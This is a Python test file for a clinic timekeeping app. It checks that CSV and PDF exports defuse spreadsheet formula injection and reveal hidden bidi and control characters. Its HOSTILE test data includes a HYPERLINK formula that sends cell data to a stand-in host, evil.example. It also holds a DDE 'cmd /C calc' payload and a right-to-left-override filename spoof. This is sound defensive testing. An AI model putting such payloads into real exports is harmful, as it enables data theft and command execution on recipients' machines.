"""Issue 12, item 13: whatever the store holds, the CSV cannot run as a formula in a
spreadsheet that splits on `;` or `,`, and neither the CSV nor the PDF carries bidi
overrides, invisible or control characters: they are shown as ``<U+202E>``."""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import date
from pathlib import Path

import pytest
from PySide6.QtWidgets import QApplication

from ptclock.report.csv_export import FORMULA_STARTS, safe_cell
from ptclock.report.export import export_day, export_visit
from ptclock.report.html import text, visible
from ptclock.timekeeper import Timekeeper
from ptclock.timing.clock import FakeClock
from tests.report.conftest import morning_visit, pdf_text

DAY = date(2026, 11, 27)
HOSTILE = [
    'Ada;=HYPERLINK("http://evil.example/?"&A1)',
    "Bob,+cmd|' /C calc'!A0",
    "Cy; -2+3",
    "Di;@SUM(A1)",
    "Eve\u202egnp.exe",  # right-to-left override
    "Fay\u2066\u2067x\u2068\u2069",  # isolates
    "Gus\u202a\u202b\u202c\u202d",  # embeddings, pop, left-to-right override
    "Hal\u200b\u200c\u200d\u2060\ufeff\u00ad",  # zero-width and invisible format characters
    "Ivy\u0085\u009b\u0080\u009f",  # C1 controls
    "Jo\x00\x07\x1b[31m\t=1\r=2\n=3\x7f",  # C0 controls and DEL, a tab, CR and LF
    "Kim\u2028\u2029\u3164",  # line and paragraph separators, an invisible filler
]
BIDI = [chr(c) for c in [*range(0x202A, 0x202F), *range(0x2066, 0x206A)]]


def hidden(character: str) -> bool:
    # The zero-width (non-)joiner spell Persian and Indic names and join emoji: kept.
    if character in "\u200c\u200d":
        return False
    return unicodedata.category(character) in ("Cc", "Cf", "Cs") or character in "\u2028\u2029"


def starts_formula(cell: str) -> bool:
    return cell.lstrip(" ").startswith(FORMULA_STARTS)


def store_patient_names(tk: Timekeeper, names: list[str]) -> None:
    """Put the names straight into the store, past any check on input."""
    rows = tk.store.connection.execute("SELECT id FROM patients ORDER BY id").fetchall()
    for (patient_id,), name in zip(rows, names, strict=True):
        tk.store.connection.execute("UPDATE patients SET name = ? WHERE id = ?", (name, patient_id))


@pytest.mark.parametrize(
    ("raw", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("Ada;=1+1", "Ada;'=1+1"),
        ("Ada; =1+1", "Ada; '=1+1"),
        ("Ada,@x;+y", "Ada,'@x;'+y"),
        ("O'Brien-Smith; Jr.", "O'Brien-Smith; Jr."),
        ("Eve\u202egnp.exe", "Eve<U+202E>gnp.exe"),
        ("a\tb", "a<U+0009>b"),
        ("\t=x", "<U+0009>=x"),
        ("x;\r=1", "x;<U+000D>=1"),
        ("lone \udcff surrogate", "lone <U+DCFF> surrogate"),
        ("Zoë שרה 山田", "Zoë שרה 山田"),
    ],
)
def test_safe_cell(raw: str, cell: str) -> None:
    assert safe_cell(raw) == cell


def test_every_cell_a_spreadsheet_could_see_is_inert(
    clinic: Timekeeper, clock: FakeClock, tmp_path: Path
) -> None:
    for number in range(len(HOSTILE)):
        morning_visit(clinic, clock, f"Patient {number}")
    store_patient_names(clinic, HOSTILE)
    data = export_day(clinic, DAY, tmp_path / "day.csv").read_bytes()
    content = data.decode("utf-8")
    body = content.replace("\r\n", "")
    assert not [ch for ch in body if hidden(ch)]
    for line in content.split("\r\n"):
        for separator in (";", ",", "\t"):  # a spreadsheet in any locale, quoting or not
            cells = line.split(separator)
            assert not [cell for cell in cells if starts_formula(cell.strip('"'))], line
    rows = list(csv.DictReader(io.StringIO(content, newline="")))
    patients = {row["patient"] for row in rows}
    assert 'Ada;\'=HYPERLINK("http://evil.example/?"&A1)' in patients
    assert "Eve<U+202E>gnp.exe" in patients
    assert "Jo<U+0000><U+0007><U+001B>[31m<U+0009>=1<U+000D>=2<U+000A>=3<U+007F>" in patients
    assert len(rows) == 2 * len(HOSTILE)  # no name broke a row


def test_the_pdf_shows_hidden_characters_instead_of_obeying_them(
    qapp: QApplication, clinic: Timekeeper, clock: FakeClock, tmp_path: Path
) -> None:
    visit = morning_visit(clinic, clock)
    store_patient_names(clinic, ["Eve\u202egnp.exe \u2066Ann\u2069 Hal\u200bx Ivy\u0085"])
    clinic.store.connection.execute(
        "UPDATE visits SET note = ? WHERE id = ?", ("Note\u202e reversed\nsecond line", visit)
    )
    text_in_pdf = pdf_text(export_visit(clinic, visit, tmp_path / "v.pdf"))
    assert "Eve<U+202E>gnp.exe <U+2066>Ann<U+2069> Hal<U+200B>x Ivy<U+0085>" in text_in_pdf
    assert "Visit summary · Eve<U+202E>gnp.exe" in text_in_pdf  # the running header too
    assert "Note<U+202E> reversed second line" in text_in_pdf
    assert not [ch for ch in text_in_pdf if ch in BIDI or hidden(ch)]


def test_the_day_pdf_shows_them_too(
    qapp: QApplication, clinic: Timekeeper, clock: FakeClock, tmp_path: Path
) -> None:
    morning_visit(clinic, clock)
    store_patient_names(clinic, ["Gus\u202dLTR"])
    clinic.settings = clinic.settings.changed(clinic_name="Riverside\u202e PT")
    text_in_pdf = pdf_text(export_day(clinic, DAY, tmp_path / "d.pdf"))
    assert "Gus<U+202D>LTR" in text_in_pdf and "Riverside<U+202E> PT" in text_in_pdf
    assert not [ch for ch in text_in_pdf if ch in BIDI]


def test_html_text_keeps_line_breaks_and_escapes_markup() -> None:
    assert text("a\r\nb\u202e<i>") == "a<br/>b&lt;U+202E&gt;&lt;i&gt;"
    assert visible("x\ny") == "x<U+000A>y"
    assert visible("x\ny", line_breaks=True) == "x\ny"
    assert visible("plain ASCII") == "plain ASCII"


def test_joiners_that_spell_names_and_emoji_are_kept(
    clinic: Timekeeper, clock: FakeClock, tmp_path: Path
) -> None:
    morning_visit(clinic, clock)
    store_patient_names(clinic, ["Mehr\u200cnaz 👩\u200d⚕️"])
    content = export_day(clinic, DAY, tmp_path / "day.csv").read_text(encoding="utf-8")
    assert "Mehr\u200cnaz 👩\u200d⚕️" in content
